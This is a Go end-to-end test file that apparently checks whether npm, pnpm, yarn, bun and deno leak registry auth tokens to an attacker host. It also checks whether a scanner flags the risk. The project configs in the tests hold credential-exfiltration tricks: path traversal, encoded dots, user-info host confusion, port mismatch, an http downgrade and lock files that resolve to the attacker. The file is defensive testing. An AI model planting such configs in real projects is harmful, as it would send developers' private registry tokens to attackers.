package e2e

import (
	"slices"
	"strings"
	"testing"

	"github.com/sandglass-dev/sandglass/internal/domain/hostile"
	"github.com/sandglass-dev/sandglass/internal/domain/registry"
	"github.com/sandglass-dev/sandglass/internal/testkit/clients"
	"github.com/sandglass-dev/sandglass/internal/testkit/recorder"
)

// boundary is a project that names an address close to the user's registry, and what of it would be a leak.
// The user's session is for key; R is the user's registry, H its host and port, E the attacker's address.
type boundary struct {
	id       string
	key      string // of the session, H put in
	registry string // that the project names
	leak     func(q recorder.Request) bool
	inSpite  []string // clients that send the credential there all the same: a fault of their own
	severity hostile.Severity
}

func below(path string) func(recorder.Request) bool {
	return func(q recorder.Request) bool { return strings.HasPrefix(q.Path, path) }
}

func anywhere(recorder.Request) bool { return true }

// boundaryRows say what the boundaries' rows of the table are about.
var boundaryRows = []struct{ id, what string }{
	{"A15", "lock file of another host"}, {"A16", "`/ab/` beside the key's `/a/`"}, {"A17", "`/a/../b/`"}, {"A18", "`/a/%2e%2e/b/`"},
	{"A19", "another port than the key's"}, {"A21", "the registry's host as a user name"}, {"A23", "`http:` where the session is for `https:`"},
	{"A24", "two sessions on one host"},
}

// noted puts what a client did at a boundary into the table.
func noted(id, client string, m mode, leak bool) {
	table.Lock()
	defer table.Unlock()
	o := table.cells[id+" "+client]
	o[m] = tight
	if leak {
		o[m] = leaked
	}
	table.cells[id+" "+client] = o
}

// run installs with every client, the session in our variable; where a client's fault lets it out, once more
// with what the hook gives.
func (b boundary) run(t *testing.T) {
	for _, m := range managers {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			c := clients.Need(t, m.name)
			faulty := slices.Contains(b.inSpite, m.name)
			if b.cross(t, c, guarded, m.args) && !faulty {
				t.Error("a leak")
			}
			if len(b.inSpite) > 0 && b.cross(t, c, sealed, m.args) {
				t.Error("a leak in spite of the hook")
			}
		})
	}
}

// cross installs with one client and reports whether the session went where it must not.
func (b boundary) cross(t *testing.T, c clients.Client, m mode, args []string) bool {
	t.Helper()
	v := newVictim(t, c, m, false)
	port := v.own.Host()[strings.LastIndexByte(v.own.Host(), ':'):]
	fill := strings.NewReplacer("H", v.own.Host(), "E", v.attacker.Host(), "P", port).Replace
	v.keep(t, "http:"+fill("//H/a/"), fill(b.key))
	v.known, _ = registry.Parse("http:" + fill("//H/a/"))
	url := fill(b.registry)
	files := map[string]string{".npmrc": "registry=" + url + "\n" + greedy, ".yarnrc.yml": "npmRegistryServer: \"" + url + "\"\n"}
	said := v.install(t, c, args, files)
	got := slices.Concat(v.own.Canary(canary), v.attacker.Canary(canary))
	leaks := slices.DeleteFunc(got, func(q recorder.Request) bool { return !b.leak(q) })
	noted(b.id, c.Name, m, len(leaks) > 0)
	if len(leaks) > 0 {
		t.Logf("%s sends the credential with %s http://%s%s\n%s", c.Name, leaks[0].Method, leaks[0].Host, leaks[0].Path, tail(said))
	}
	if worst := hostile.Worst(scanned(files, v.known)); worst != b.severity {
		t.Errorf("the scanner says %q: %+v", worst, scanned(files, v.known))
	}
	return len(leaks) > 0
}

// A16: the key of one path is not for a path that begins with the same letters.
func TestA16_PathPrefix(t *testing.T) {
	boundary{id: "A16", key: "//H/a/", registry: "http://H/ab/", leak: below("/ab/"), severity: hostile.Low}.run(t)
}

// A17: ".." leads out of the path that the key is for.
func TestA17_DotDot(t *testing.T) {
	boundary{id: "A17", key: "//H/a/", registry: "http://H/a/../b/", leak: below("/b/"), inSpite: []string{"pnpm12", "deno"}, severity: hostile.High}.run(t)
}

// A18: encoded, servers may take it for the same.
func TestA18_EncodedDots(t *testing.T) {
	boundary{id: "A18", key: "//H/a/", registry: "http://H/a/%2e%2e/b/", leak: below("/b/"), inSpite: []string{"pnpm12", "deno"}, severity: hostile.High}.run(t)
}

// A19: a key without a port is for the usual one.
func TestA19_Port(t *testing.T) {
	boundary{id: "A19", key: "//127.0.0.1/a/", registry: "http://E/a/", leak: anywhere, inSpite: []string{"pnpm10", "pnpm11", "pnpm12"}, severity: hostile.High}.run(t)
}

// A21: what stands before the "@" is no host.
func TestA21_UserInfo(t *testing.T) {
	boundary{id: "A21", key: "//H/a/", registry: "http://H@E/a/", leak: anywhere, severity: hostile.High}.run(t)
}

// A24: of two sessions on one host the one with the longest path goes, and never the other.
func TestA24_LongestPath(t *testing.T) {
	for _, m := range managers {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			c := clients.Need(t, m.name)
			v := newVictim(t, c, guarded, false)
			url := v.own.URL + "a/b/"
			v.keep(t, url, v.own.Key()+"a/")
			const second = "npm_SecondSecondSecondSecondSecond543210"
			v.env = append(v.env, "SG_SECOND="+second)
			v.home.Write(t, ".npmrc", v.home.Read(".npmrc")+v.own.Key()+"a/b/:_authToken=${SG_SECOND}\n", 0o600)
			v.home.Write(t, ".yarnrc.yml", v.home.Read(".yarnrc.yml")+"  \""+strings.TrimSuffix(v.own.Key(), "/")+"/a/b\":\n    npmAlwaysAuth: true\n    npmAuthToken: \"${SG_SECOND-}\"\n", 0o600)
			said := v.install(t, c, m.args, nil)
			noted("A24", m.name, guarded, len(v.own.Canary(canary)) > 0)
			if len(v.own.Canary(canary)) > 0 || len(v.own.Canary(second)) == 0 {
				t.Errorf("%d requests with the other session, %d with the right one\n%s", len(v.own.Canary(canary)), len(v.own.Canary(second)), tail(said))
			}
		})
	}
}

// A23: the user's session is for https, and the project says http. Keys tell no scheme, so that no variable
// helps here: the scanner has to, and the hook, which then gives no session.
func TestA23_Downgrade(t *testing.T) {
	for _, m := range managers {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			c := clients.Need(t, m.name)
			for _, how := range []mode{guarded, sealed} {
				v := newVictim(t, c, how, true)
				url := "http://" + farHost + "/"
				files := map[string]string{
					".npmrc":      "registry=" + url + "\n" + greedy,
					".yarnrc.yml": "npmRegistryServer: \"" + url + "\"\nunsafeHttpWhitelist: [\"" + farHost + "\"]\nhttpProxy: \"" + v.own.URL + "\"\n",
				}
				said := v.install(t, c, m.args, files) // the user's proxy is the way on which all can be read
				leak := len(v.own.Canary(canary)) > 0
				noted("A23", m.name, how, leak)
				t.Logf("%s sends the credential in the clear: %v\n%s", m.name, leak, tail(said))
				if leak && how == sealed {
					t.Error("a leak in spite of the hook")
				}
				if worst := hostile.Worst(scanned(files, v.known)); worst != hostile.High {
					t.Errorf("the scanner says %q", worst)
				}
			}
		})
	}
}

// A15: what the lock file fetches from another host goes there without the credential.
func TestA15_Lockfile(t *testing.T) {
	for _, m := range managers[:7] { // yarn 4, bun and deno find addresses that are not the registry's in other ways
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			c := clients.Need(t, m.name)
			v := newVictim(t, c, guarded, false)
			at := v.attacker.URL + "@acme/private/-/x-1.0.0.tgz"
			files := map[string]string{
				".npmrc":       greedy,
				"package.json": `{"name":"x","version":"1.0.0","dependencies":{"@acme/private":"1.0.0"}}`,
				"package-lock.json": `{"name":"x","version":"1.0.0","lockfileVersion":3,"requires":true,"packages":{"":{"name":"x","version":"1.0.0",` +
					`"dependencies":{"@acme/private":"1.0.0"}},"node_modules/@acme/private":{"version":"1.0.0","resolved":"` + at + `"}}}`,
				"yarn.lock": "# yarn lockfile v1\n\n\n\"@acme/private@1.0.0\":\n  version \"1.0.0\"\n  resolved \"" + at + "\"\n",
				"pnpm-lock.yaml": "lockfileVersion: '9.0'\n\nsettings:\n  autoInstallPeers: true\n  excludeLinksFromLockfile: false\n\nimporters:\n\n  .:\n    dependencies:\n" +
					"      '@acme/private':\n        specifier: 1.0.0\n        version: 1.0.0\n\npackages:\n\n  '@acme/private@1.0.0':\n    resolution: {integrity: " + recorder.Integrity("@acme/private") + ", tarball: " + at + "}\n\nsnapshots:\n\n  '@acme/private@1.0.0': {}\n",
			}
			said := v.install(t, c, m.args, files)
			noted("A15", m.name, guarded, len(v.attacker.Canary(canary)) > 0)
			if leaks := v.attacker.Canary(canary); len(leaks) > 0 {
				t.Errorf("a leak: %+v\n%s", leaks[0].Path, tail(said))
			}
			t.Logf("%d requests to the other host", len(v.attacker.Requests()))
			if found := scanned(files, v.known); len(found) < 3 {
				t.Errorf("the scanner finds %+v", found)
			}
		})
	}
}
